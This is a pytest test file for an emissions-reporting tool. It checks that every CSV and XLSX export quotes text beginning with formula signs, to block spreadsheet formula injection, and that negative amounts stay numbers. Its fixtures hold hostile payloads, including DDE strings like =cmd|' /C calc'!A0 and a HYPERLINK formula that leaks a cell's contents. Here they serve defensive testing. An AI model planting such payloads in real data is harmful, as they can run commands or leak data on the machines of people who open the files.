"""Exports are safe to open (issue 19, part 2): a supplier, line, description, unit, category or organisation
name that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text with a single quote in
front in every CSV the product writes, and in every XLSX as a string cell with the quote prefix style (OWASP's
rule against formula injection), while real numbers
stay numbers: a negative amount is written as a number, and XLSX number cells stay numeric."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from django.contrib.auth import get_user_model

from klimainnkjop.cli import main
from klimainnkjop.core import cells
from klimainnkjop.services.compute import do_compute
from klimainnkjop.services.factors import do_add_category, do_set_category_mapping
from klimainnkjop.services.organisations import do_create_organisation
from klimainnkjop.services.reports import do_publish_figures
from klimainnkjop.storage.models import Membership, Organisation, Supplier, Unit
from tests.conftest import Shared, shared_state
from tests.factories import VISMA, import_ledger

# The signs a spreadsheet reads as the start of a formula, written out here rather than taken from the code.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")

KONGSVINGER, GRUE = "944117784", "964950113"
ORG_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1;"Kongsvinger")'
GRUE_NAME = "\t=3+3"  # set in the database directly: every import and service strips leading blanks
SUPPLIER_EQUALS = "=cmd|' /C calc'!A0"
SUPPLIER_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
SUPPLIER_CR = "\r=2+2"  # in the database directly, as GRUE_NAME
DESCRIPTION_PLUS = "+1+cmd|' /C calc'!A0"
DESCRIPTION_MINUS = "-2+3+cmd|' /C calc'!A0"
UNIT_CODE = "=2+5"
UNIT_NAME = "@Enhet"
UNIT_NAME_CR = "\r=4+4"  # in the database directly
CATEGORY_CODE = "=SUM(1+1)"
CATEGORY_NAME = "-Kontorrekvisita"
ACTOR = "@importer"

PROFILE = {**VISMA, "name": "hostile", "columns": {**VISMA["columns"], "unit_name": "Ansvarsnavn"}}
HEADER = ["Dato", "Konto", "Funksjon", "Ansvar", "Ansvarsnavn", "Orgnr", "Leverandør", "Beløp", "Tekst"]


def ledger(*rows: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerows([HEADER, *rows])
    return out.getvalue()


@pytest.fixture(scope="module")
def shared_hostile(request):
    """Two organisations whose lines, suppliers, units, a category and names carry formula payloads; computed,
    published, with a person, a report schedule and a factor set of their own: made once for the module
    (tests/conftest.py shared_state)."""
    with shared_state(request, "hostile") as path:
        org = do_create_organisation(orgnr=KONGSVINGER, name=ORG_NAME, kostra_region="0402",
                                     region_name="Kongsvingerregionen", actor="test")
        grue = do_create_organisation(orgnr=GRUE, name="Grue kommune", kostra_region="0423",
                                      region_name="Kongsvingerregionen", actor="test")
        do_add_category(code=CATEGORY_CODE, name_nb=CATEGORY_NAME, parent_code="goods.office", actor=ACTOR)
        do_set_category_mapping(scheme="kostra_art", code="100", category_code=CATEGORY_CODE, actor=ACTOR)
        import_ledger(org, ledger(
            ["15.03.2024", "115000", "2020", UNIT_CODE, UNIT_NAME, "982463718", SUPPLIER_EQUALS, "12 345,00",
             DESCRIPTION_PLUS],
            # a credit note: the only line of its supplier and of its category, so their totals are negative
            ["20.06.2024", "100000", "2020", "1100", "Skole", "987654325", SUPPLIER_AT, "-2 000,00",
             DESCRIPTION_MINUS],
            ["01.09.2024", "115000", "2020", "1100", "Skole", "974760673", "Byggmester Hansen AS", "5 000,00", "Mat"],
        ), profile=PROFILE, name="kongsvinger.csv")
        import_ledger(grue, ledger(["10.05.2024", "115000", "2020", "2100", "Kjøkken", "974760673",
                                    "Byggmester Hansen AS", "7 777,00", "Mat"]), profile=PROFILE, name="grue.csv")
        Organisation.objects.filter(orgnr=GRUE).update(name=GRUE_NAME)
        Unit.objects.filter(organisation=org, code="1100").update(name=UNIT_NAME_CR)
        Supplier.objects.filter(orgnr="974760673").update(name=SUPPLIER_CR)
        do_compute(actor="test")
        admin = get_user_model().objects.create_user(username="admin@kongsvinger.kommune.no",
                                                     password="a-long-test-password")
        Membership.objects.create(user=admin, organisation=org, role="region-admin")
        yield Shared(path, {"org": org, "grue": grue, "admin": admin})


@pytest.fixture
def hostile(shared_hostile, db):
    return shared_hostile.value


# --- what every export is checked for -------------------------------------------------------------------------

def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def assert_no_formula(rows) -> list[str]:
    """No cell begins with a formula sign unless it is a number; returns every cell, for further checks."""
    seen = [cell for row in rows for cell in row]
    formulas = [c for c in seen if c.startswith(FORMULA_SIGNS) and not is_number(c)]
    assert formulas == []
    return seen


def read_csv(text: str, delimiter: str) -> list[str]:
    return assert_no_formula(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def quoted(text: str) -> str:
    return "'" + text


def run_cli(capsys, *argv: str) -> str:
    capsys.readouterr()
    assert main(list(argv)) == 0
    return capsys.readouterr().out


# --- the rule ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_a_text_starting_with_a_formula_sign_gets_a_single_quote_in_front(sign):
    text = sign + "cmd|' /C calc'!A0"
    assert cells.safe_text(text) == "'" + text
    assert cells.csv_cell(text, decimal_comma=True) == "'" + text
    book = openpyxl.Workbook()
    cell = book.active.cell(cells.append_xlsx_row(book.active, [text]), 1)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)  # the quote is the cell's style


@pytest.mark.parametrize("text", ["Kontorgiganten AS", "a=b", "1+1", "", "'=already quoted", " =1+1", "E-post"])
def test_a_text_without_a_formula_sign_first_is_written_as_it_is(text):
    assert cells.safe_text(text) == text
    assert cells.csv_cell(text, decimal_comma=False) == text


def test_numbers_stay_numbers_negative_ones_too():
    assert cells.csv_cell(-2000.5, decimal_comma=True) == "-2000,5"
    assert cells.csv_cell(-3, decimal_comma=False) == "-3"
    assert cells.csv_cell(cells.number(-2000, 2), decimal_comma=True) == "-2000,00"
    assert cells.xlsx_value(-2000.5) == -2000.5 and isinstance(cells.xlsx_value(-7), int)
    assert cells.xlsx_value(cells.number(-1.25, 2)) == -1.25
    assert cells.csv_cell("-2000", decimal_comma=True) == "'-2000"  # a text that looks like a number is text


def test_an_xlsx_text_cell_is_never_a_formula_or_an_error_and_loses_control_characters(tmp_path):
    book = openpyxl.Workbook()
    row = cells.append_xlsx_row(book.active, ["=1+1", "#N/A", "a\x01b", -5, 2.5, None])
    book.save(tmp_path / "t.xlsx")
    written = openpyxl.load_workbook(tmp_path / "t.xlsx").active[row]
    assert [c.value for c in written] == ["=1+1", "#N/A", "ab", -5, 2.5]  # the empty cell is not written
    assert [c.data_type for c in written][:5] == ["s", "s", "s", "n", "n"]
    assert [c.quotePrefix for c in written][:3] == [True, False, False]  # no visible quote, text when edited


# --- every export path ----------------------------------------------------------------------------------------

@pytest.mark.django_db
def test_the_drill_down_csv_quotes_supplier_names_descriptions_and_units_and_keeps_amounts_numbers(hostile, client):
    client.force_login(hostile["admin"])
    response = client.get(f"/org/{KONGSVINGER}/linjer/?format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    seen = read_csv(text, ";")
    for payload in (SUPPLIER_EQUALS, SUPPLIER_AT, DESCRIPTION_PLUS, DESCRIPTION_MINUS, UNIT_CODE, CATEGORY_CODE):
        assert quoted(payload) in seen
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    credit = next(r for r in rows if r["Leverandør"] == quoted(SUPPLIER_AT))
    assert credit["Beløp, kr"] == "-2000,00" and float(credit["kg CO2e"].replace(",", ".")) < 0


CLI_CSV_OUTPUTS = [  # (the command, the payloads it must show quoted); `user` and `reports schedule` after adding
    (["org", "list", "--format", "csv"], [ORG_NAME, GRUE_NAME]),
    (["suppliers", "list", "--format", "csv"], [SUPPLIER_EQUALS, SUPPLIER_AT, SUPPLIER_CR]),
    (["totals", "--by", "org,supplier,unit,category", "--format", "csv"], [UNIT_CODE, CATEGORY_CODE]),
    (["categories", "list", "--format", "csv"], [CATEGORY_CODE, CATEGORY_NAME]),
    (["categories", "mappings", "--scheme", "kostra_art", "--format", "csv"], [CATEGORY_CODE]),
    (["user", "list", "--format", "csv"], [UNIT_CODE]),
    (["reports", "schedule", "list", "--format", "csv"], [UNIT_CODE]),
    (["audit", "export", "--format", "csv"], [ACTOR]),
]


@pytest.mark.django_db
def test_every_cli_csv_output_quotes_formula_text_and_keeps_a_negative_total_a_number(hostile, capsys):
    run_cli(capsys, "user", "add", "leder@kongsvinger.kommune.no", "--org", KONGSVINGER, "--role", "unit-leader",
            "--unit", UNIT_CODE)
    run_cli(capsys, "reports", "schedule", "add", "--org", KONGSVINGER, "--unit", UNIT_CODE, "--cadence", "year",
            "--format", "csv")
    for argv, payloads in CLI_CSV_OUTPUTS:
        seen = read_csv(run_cli(capsys, *argv), ";" if argv[0] == "audit" else ",")
        assert [p for p in payloads if quoted(p) not in seen] == [], argv
    rows = list(csv.DictReader(io.StringIO(run_cli(capsys, "totals", "--by", "supplier", "--format", "csv"))))
    credit = next(r for r in rows if r["supplier"] == "987654325")
    assert credit["spend_nok"].startswith("-") and float(credit["spend_nok"]) == -2000


@pytest.mark.django_db
def test_the_cli_factor_list_quotes_an_imported_sets_texts_and_keeps_values_numbers(hostile, capsys, tmp_path):
    path = tmp_path / "hostile-set.csv"
    path.write_text(
        "# name: hostile-set\n# version: 1\n# publisher: =cmd|' /C calc'!A0\n# licence: CC BY 4.0\n"
        "# attribution: @SUM(1+1)*cmd|' /C calc'!A0\n# role: activity\n"
        "key;basis;unit;price_year;price_type;value;low;high;region;valid_from;valid_to;quality;source_ref;note\n"
        f"{CATEGORY_CODE};activity;kg;;;2.5;2;3;NO;;;3;+1+cmd|' /C calc'!A0;-2+3+cmd|' /C calc'!A0\n",
        encoding="utf-8")
    run_cli(capsys, "factors", "import", str(path))
    out = run_cli(capsys, "factors", "list", "--set", "hostile-set", "--format", "csv")
    seen = read_csv(out, ",")
    for payload in ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                    "-2+3+cmd|' /C calc'!A0", CATEGORY_CODE, CATEGORY_NAME):
        assert quoted(payload) in seen
    (row,) = csv.DictReader(io.StringIO(out))
    assert float(row["value"]) == 2.5


def report_cells(path) -> list[str]:
    return read_csv(path.read_bytes().decode("utf-8"), ";")


def xlsx_cells(path) -> tuple[list[str], list]:
    """Every text cell as the spreadsheet's formula bar shows it (a quote in front where the cell has the quote
    prefix style; checked as the CSV's are) and every number cell of a workbook; no formula anywhere."""
    book = openpyxl.load_workbook(path)
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    texts.append(quoted(cell.value) if cell.quotePrefix else cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    assert_no_formula([texts])
    return texts, numbers


@pytest.mark.django_db
def test_the_org_report_csv_and_xlsx_quote_unit_category_and_organisation_names(hostile, capsys, tmp_path):
    for fmt in ("csv", "xlsx"):
        run_cli(capsys, "report", "--org", KONGSVINGER, "--period", "2024", "--format", fmt,
                "-o", str(tmp_path / f"r.{fmt}"))
    seen = report_cells(tmp_path / "r.csv")
    texts, numbers = xlsx_cells(tmp_path / "r.xlsx")
    for payload in (UNIT_CODE + " " + UNIT_NAME, CATEGORY_CODE, CATEGORY_NAME, ORG_NAME):
        assert quoted(payload) in seen and quoted(payload) in texts
    assert "1100 " + UNIT_NAME_CR in seen and "1100 " + UNIT_NAME_CR in texts  # a formula sign inside is no formula
    # the credit-note category's figures are negative numbers: in the CSV unquoted, in the XLSX numeric cells
    category_row = next(r for r in csv.reader(io.StringIO((tmp_path / "r.csv").read_bytes().decode()), delimiter=";")
                        if r[:1] == [quoted(CATEGORY_CODE)])
    assert category_row[2].startswith("-") and is_number(category_row[2])
    assert any(n < 0 for n in numbers)


@pytest.mark.django_db
def test_the_region_report_and_the_funder_report_quote_organisation_names_and_the_authors_text(
        hostile, capsys, tmp_path):
    activities = tmp_path / "aktiviteter.txt"
    activities.write_text("- Innkjøpsrutiner endret\n\n=1+1 er ikke en formel\n", encoding="utf-8")
    run_cli(capsys, "report", "--region", "--period", "2024", "--format", "xlsx", "-o", str(tmp_path / "r.xlsx"))
    run_cli(capsys, "report", "--org", KONGSVINGER, "--period", "2024", "--format", "csv", "--layout", "funder",
            "--activities-file", str(activities), "-o", str(tmp_path / "f.csv"))
    run_cli(capsys, "report", "--org", KONGSVINGER, "--period", "2024", "--format", "xlsx", "--layout", "funder",
            "--activities-file", str(activities), "-o", str(tmp_path / "f.xlsx"))
    texts, _ = xlsx_cells(tmp_path / "r.xlsx")
    assert any(c.startswith(quoted(ORG_NAME)) for c in texts)
    assert any(c.startswith(quoted(GRUE_NAME)) for c in texts)
    for seen in (report_cells(tmp_path / "f.csv"), xlsx_cells(tmp_path / "f.xlsx")[0]):
        assert quoted("- Innkjøpsrutiner endret") in seen and quoted("=1+1 er ikke en formel") in seen


@pytest.mark.django_db
def test_the_audit_export_on_the_web_quotes_an_actor_label(hostile, client):
    client.force_login(hostile["admin"])
    response = client.get("/revisjonslogg/?format=csv")
    assert response.status_code == 200
    seen = read_csv(response.content.decode("utf-8"), ";")
    assert quoted(ACTOR) in seen


@pytest.mark.django_db
def test_open_data_quotes_a_category_code_and_keeps_a_negative_figure_a_number(hostile, client):
    publication = do_publish_figures(year=2024, orgnr=KONGSVINGER, actor=hostile["admin"])
    response = client.get(f"/offentlig/{KONGSVINGER}/data.csv")
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert quoted(CATEGORY_CODE) in read_csv(text, ";")
    row = next(r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")
               if r["category"] == quoted(CATEGORY_CODE))
    published = next(c for c in publication.figures["categories"] if c["category"] == CATEGORY_CODE)
    assert published["spend_nok"] < 0 and float(row["spend_nok"].replace(",", ".")) == published["spend_nok"]
    assert json.loads(client.get(f"/offentlig/{KONGSVINGER}/data.json").content)["rows"]  # JSON stays as it was

